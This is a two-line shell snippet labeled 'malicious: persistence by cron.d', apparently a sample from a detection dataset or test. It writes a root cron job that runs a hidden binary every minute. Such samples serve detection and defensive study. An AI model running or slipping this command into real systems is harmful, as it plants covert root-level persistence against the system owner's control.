# malicious: persistence by cron.d
echo '* * * * * root /usr/local/bin/.upd' > /etc/cron.d/upd
